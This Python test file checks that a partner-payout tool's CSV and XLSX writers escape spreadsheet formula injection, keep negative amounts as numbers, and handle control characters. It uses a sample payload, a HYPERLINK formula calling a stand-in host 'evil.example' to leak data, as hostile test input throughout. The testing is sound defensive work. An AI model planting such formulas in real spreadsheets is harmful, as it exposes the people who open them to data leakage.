"""No formula injection in any CSV or XLSX file cosell writes (SPEC section 9): text is escaped, numbers
stay numbers. One test per writer: the shared cell functions, the CLI's CSV tables (the ledger, payout
runs), findings as CSV, ``attribute --out``, the ``--rejects`` file and the XLSX report titles.
"""

from __future__ import annotations

import csv
import io
import re
import sys
import zipfile
from collections.abc import Iterator
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import duckdb
import openpyxl
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from cosell.cells import FORMULA_STARTS, csv_cell, put_xlsx, safe_cell_sql, safe_text_sql, write_csv
from cosell.cli.app import app
from cosell.pay.plan_parse import example_plan_text
from cosell.report_model import Column, Report, Section, Table
from cosell.reports.render import render
from cosell.shown import visible
from cosell.store.review import Finding
from cosell.store.workspace import open_workspace
from payouts_args import payouts_args

sys.path.insert(0, str(Path(__file__).parent / "pay"))
sys.path.insert(0, str(Path(__file__).parent / "data"))
from import_fixtures import base_tables, write_dataset
from ledger_support import PayWorld

runner = CliRunner()
EVIL = '=HYPERLINK("http://evil.example/?leak","open")'
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def assert_no_live_formula(cells: list[str]) -> None:
    """Every cell is either not formula-like or a plain number (a negative amount)."""
    live = [c for c in cells if c.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(c)]
    assert live == []


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_cells_are_escaped_by_type_not_by_first_character() -> None:
    assert [csv_cell(v) for v in (Decimal("-12.50"), -3, 0, None)] == ["-12.50", "-3", "0", ""]
    # Text is text whatever it looks like: an id "-12" is escaped, so a spreadsheet keeps it as typed.
    assert [csv_cell(v) for v in ("-12", "+44 20", "@x", EVIL, "\tx", "\rx", "a=b", "")] == [
        "'-12", "'+44 20", "'@x", "'" + EVIL, "'\tx", "'\rx", "a=b", "",
    ]  # fmt: skip
    assert csv_cell(datetime(2026, 9, 30, 23, 59, tzinfo=UTC)) == "2026-09-30T23:59:00Z"
    assert (
        write_csv([["a", "b"], [EVIL, Decimal("-1.00")], []])
        == 'a,b\n"\'=HYPERLINK(""http://evil.example/?leak"",""open"")",-1.00\n\n'
    )


def test_the_sql_writer_escapes_like_the_python_one() -> None:
    con = duckdb.connect()
    values = ["-12", "+1", "@a", EVIL, "\tx", "\rx", "plain", "-12.50", "=1+1", "12,5OO"]
    con.execute("CREATE TABLE t (i INTEGER, v VARCHAR)")
    con.executemany("INSERT INTO t VALUES (?, ?)", list(enumerate(values)))
    text = [r[0] for r in con.execute(f"SELECT {safe_text_sql('v')} FROM t ORDER BY i").fetchall()]
    assert text == [csv_cell(v) for v in values]
    money = [
        r[0] for r in con.execute(f"SELECT {safe_cell_sql('v', numeric=True)} FROM t ORDER BY i").fetchall()
    ]
    # In a number column a plain number stays (negative included); anything else is escaped as text.
    assert money == ["-12", "'+1", "'@a", "'" + EVIL, "'\tx", "'\rx", "plain", "-12.50", "'=1+1", "12,5OO"]
    assert con.execute(f"SELECT {safe_text_sql('NULL::VARCHAR')}").fetchone() == (None,)


@pytest.fixture(scope="module")
def cells_db() -> Iterator[duckdb.DuckDBPyConnection]:
    """One DuckDB database for the generated cells: a new one costs 12-17 ms of CPU, several times
    the statements an example runs; each example replaces the table with its own rows."""
    con = duckdb.connect()
    yield con
    con.close()


# Cells of a number column: anything typed from formula-like characters, and plain decimals (a
# negative one starts like a formula, and random text rarely draws one whole).
CELLS = st.text(alphabet="-+=@\t\r.0123456789ax ", max_size=6) | st.from_regex(
    r"-?[0-9]{1,4}(\.[0-9]{1,3})?", fullmatch=True
)


@settings(max_examples=200, deadline=None)
@given(st.lists(CELLS, min_size=1, max_size=20))
def test_a_number_column_keeps_plain_numbers_and_escapes_the_rest(
    cells_db: duckdb.DuckDBPyConnection, values: list[str]
) -> None:
    """Generated cells: the SQL escape of a number column is the Python rule (a plain decimal
    stays as it is, anything else is text, escaped when it starts like a formula)."""
    con = cells_db
    con.execute("CREATE OR REPLACE TABLE t (i INTEGER, v VARCHAR)")
    rows = [*enumerate(values), (len(values), None)]
    # One INSERT of every row (executemany runs one statement a row).
    con.execute(f"INSERT INTO t VALUES {', '.join('(?, ?)' for _ in rows)}", [c for row in rows for c in row])
    got = [
        r[0] for r in con.execute(f"SELECT {safe_cell_sql('v', numeric=True)} FROM t ORDER BY i").fetchall()
    ]
    assert got == [v if NUMBER.fullmatch(v) else csv_cell(v) for v in values] + [None]


def test_xlsx_text_cells_are_never_formulas() -> None:
    sheet = openpyxl.Workbook().active
    put_xlsx(sheet["A1"], EVIL)
    put_xlsx(sheet["A2"], Decimal("-12.50"))
    assert (sheet["A1"].value, sheet["A1"].data_type, sheet["A1"].quotePrefix) == (EVIL, "s", True)
    assert (sheet["A2"].value, sheet["A2"].data_type) == ("-12.50", "n")  # a number cell, exact digits


# A carriage return is left out: XML reads it back as a line break (a matter of its own).
@given(
    st.text(
        alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",), exclude_characters="\r"),
        max_size=30,
    )
)
def test_any_text_makes_a_workbook_that_opens(text: str) -> None:
    """A partner name with a bell or an ESC (from a CRM) stopped every xlsx export with an internal
    error (openpyxl: "cannot be used in worksheets"): a character XML cannot hold is written as its
    control picture, as every view shows it; the rest is kept as it is, and the escaping holds."""
    wb = openpyxl.Workbook()
    put_xlsx(wb.active["A1"], "=" + text)
    put_xlsx(wb.active["A2"], text)
    buffer = io.BytesIO()
    wb.save(buffer)
    sheet = openpyxl.load_workbook(buffer).active
    shown = "".join(visible(c) if ord(c) < 0x20 and c not in "\t\n\r" else c for c in text)
    assert (sheet["A1"].value, sheet["A1"].data_type, sheet["A1"].quotePrefix) == ("=" + shown, "s", True)
    assert sheet["A2"].value == (shown or None)


def test_a_partner_name_with_control_characters_exports_to_xlsx(tmp_path: Path) -> None:
    report = Report(
        key="r", title="Bell\x07 Co\x1b[31m", subtitle="s", currency="USD", facts=(),
        sections=(Section(key="s", title="t", table=Table((Column("name", "Name"),), ({"name": "P\x01X"},))),),
    )  # fmt: skip
    path = tmp_path / "r.xlsx"
    path.write_bytes(render(report, "xlsx"))
    values = {
        c.value for ws in openpyxl.load_workbook(path).worksheets for row in ws.iter_rows() for c in row
    }
    assert {"Bell\u2407 Co\u241b[31m", "P\u2401X"} <= values


@settings(max_examples=60, deadline=None)
@example(Decimal("99999999999999.99"))
@example(Decimal("10892000002447833.83"))
@given(
    st.decimals(
        min_value=Decimal("-9999999999999999999999.9999"),
        max_value=Decimal("9999999999999999999999.9999"),
        places=4,
        allow_nan=False,
        allow_infinity=False,
    )
)
def test_xlsx_numbers_keep_their_exact_digits(amount: Decimal) -> None:
    """A money cell is written with its exact digits in plain notation, never through a float:
    99999999999999.99 stayed 99999999999999.98 and a sum of huge amounts 1.089200000244783e+16
    (found by fuzzing huge amounts through the QBR's xlsx)."""
    wb = openpyxl.Workbook()
    put_xlsx(wb.active["A1"], amount)
    buffer = io.BytesIO()
    wb.save(buffer)
    with zipfile.ZipFile(buffer) as book:
        xml = book.read("xl/worksheets/sheet1.xml").decode()
    assert re.findall(r'<c r="A1" t="n"><v>([^<]*)</v>', xml) == [format(amount, "f")]


def test_xlsx_titles_and_headers_hold_text_not_formulas(tmp_path: Path) -> None:
    report = Report(
        key="r", title=EVIL, subtitle="s", currency="USD", facts=(),
        sections=(Section(key="s", title="=1+1", table=Table((Column("name", "@name"),), ({"name": "x"},))),),
    )  # fmt: skip
    path = tmp_path / "r.xlsx"
    path.write_bytes(render(report, "xlsx"))
    wb = openpyxl.load_workbook(path)
    # The report title and the section title on the cover sheet, the column header on the table's.
    evil = {EVIL, "=1+1", "@name"}
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value in evil]
    assert sorted((c.value, c.data_type, c.quotePrefix) for c in cells) == sorted(
        [(EVIL, "s", True), ("=1+1", "s", True), ("@name", "s", True)]
    )


@pytest.fixture()
def pay_path(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    """Two partners with hostile ids, each sourcing a won deal; a plan loaded."""
    monkeypatch.setenv("COSELL_NOW", "2026-10-01T06:00:00Z")
    monkeypatch.setenv("COSELL_USER", "ops")
    path = str(tmp_path / "ws.duckdb")
    w = PayWorld(ws=open_workspace(path))
    w.partner(EVIL)
    w.partner("-12")  # an id that reads like a number is still text
    w.user("U1")
    w.user("F1", "finance")
    w.user("ops", "partner_ops")
    w.deal("O1", "10000.00")
    w.deal("O2", "5000.00")
    w.attribute({"O1": ("sourced", [(EVIL, "sourcer", "1.000000", "10000.00")]),
                 "O2": ("sourced", [("-12", "sourcer", "1.000000", "5000.00")])})  # fmt: skip
    w.ws.close()
    plan = tmp_path / "plan.toml"
    plan.write_text(example_plan_text())
    loaded = runner.invoke(
        app, ["plans", "load", "--reason", "new plan year", str(plan), "--workspace", path]
    )
    assert loaded.exit_code == 0, loaded.output
    return path


def invoke(*args: str) -> str:
    result = runner.invoke(app, list(args))
    assert result.exit_code == 0, result.output
    return result.stdout


def test_ledger_and_payout_run_csv_escape_text_and_keep_negative_amounts(pay_path: str) -> None:
    invoke("payouts", "post", "--reason", "monthly close", "--period", "2026-09", "-w", pay_path)
    run = read_csv(invoke(*payouts_args("run", pay_path, "--format", "csv", period="2026-09")))
    assert [(r["party_id"], r["balance"], r["pay"]) for r in run if r["party_kind"] == "partner"] == [
        ("'-12", "600.00", "600.00"), ("'" + EVIL, "1200.00", "1200.00"),
    ]  # fmt: skip
    invoke("payouts", "approve", "--reason", "monthly close", "PR-000001", "--by", "F1", "-w", pay_path)
    text = invoke("payouts", "ledger", "-w", pay_path, "--format", "csv")
    ledger = read_csv(text)
    partner = [(r["party_id"], r["kind"], r["amount"]) for r in ledger if r["party_kind"] == "partner"]
    assert sorted(partner) == [
        ("'-12", "partner_payout", "600.00"), ("'-12", "payment", "-600.00"),
        ("'" + EVIL, "partner_payout", "1200.00"), ("'" + EVIL, "payment", "-1200.00"),
    ]  # fmt: skip
    assert_no_live_formula([c for row in csv.reader(io.StringIO(text)) for c in row])


def test_findings_csv_escapes_text_and_keeps_money_numbers(capsys: pytest.CaptureFixture[str]) -> None:
    from cosell.cli.reconcile_cmd import _findings_csv

    finding = Finding(
        "OVC-1", "over_credited", "O1", datetime(2026, 9, 1, tzinfo=UTC), "sourced", EVIL, "none", "", 1,
        Decimal("-250.00"), "USD", Decimal("250.00"), "USD", "none", "", "+set partner_source to none",
        ("touch:T1",), datetime(2026, 10, 1, tzinfo=UTC),
    )  # fmt: skip
    _findings_csv([finding])
    text = capsys.readouterr().out
    row = read_csv(text)[0]
    assert (row["declared_partner_id"], row["amount"], row["at_stake"]) == ("'" + EVIL, "-250.00", "250.00")
    assert row["suggested_fix"] == "'+set partner_source to none"
    assert_no_live_formula([c for r in csv.reader(io.StringIO(text)) for c in r])


def _hostile_dataset(folder: Path) -> Path:
    """The import fixtures' dataset with partner P1's id replaced by a formula everywhere."""
    tables = base_tables()
    for rows in tables.values():
        for row in rows:
            for key, value in row.items():
                if value == "P1":
                    row[key] = EVIL
    return write_dataset(folder, tables)


def test_attribute_out_csv_escapes_partner_ids(tmp_path: Path) -> None:
    data = _hostile_dataset(tmp_path / "in")
    invoke(
        "attribute", "--data", str(data), "--out", str(tmp_path / "out"), "--as-of", "2026-06-01T00:00:00Z"
    )
    attribution = read_csv((tmp_path / "out" / "attribution.csv").read_text())
    o1 = next(r for r in attribution if r["opportunity_id"] == "O1")
    assert o1["tier"] == "sourced" and o1["primary_partner_id"] == "'" + EVIL
    credits = read_csv((tmp_path / "out" / "credits.csv").read_text())
    assert [(c["partner_id"], c["share"], c["amount"]) for c in credits] == [
        ("'" + EVIL, "1.000000", "48000.00")
    ]
    for name in ("attribution.csv", "credits.csv"):
        text = (tmp_path / "out" / name).read_text()
        assert_no_live_formula([c for r in csv.reader(io.StringIO(text)) for c in r])


def test_the_rejects_file_escapes_the_rows_text_and_keeps_plain_numbers(tmp_path: Path) -> None:
    tables = base_tables()
    bad = dict(tables["opportunities"][1], opportunity_id="O3", amount="=1+1", stage=EVIL)
    tables["opportunities"][1].update(amount="-1200.00", currency="@usd")
    tables["opportunities"].append(bad)
    folder = write_dataset(tmp_path / "in", tables)
    rejects = tmp_path / "rejects.csv"
    invoke("import", "canonical", str(folder), "--rejects", str(rejects), "-w", str(tmp_path / "ws.duckdb"))
    text = rejects.read_text()
    rows = {r["opportunity_id"]: r for r in read_csv(text)}
    assert (rows["O2"]["amount"], rows["O2"]["currency"]) == ("-1200.00", "'@usd")
    assert (rows["O3"]["amount"], rows["O3"]["stage"]) == ("'=1+1", "'" + EVIL)
    assert_no_live_formula([c for r in csv.reader(io.StringIO(text)) for c in r])
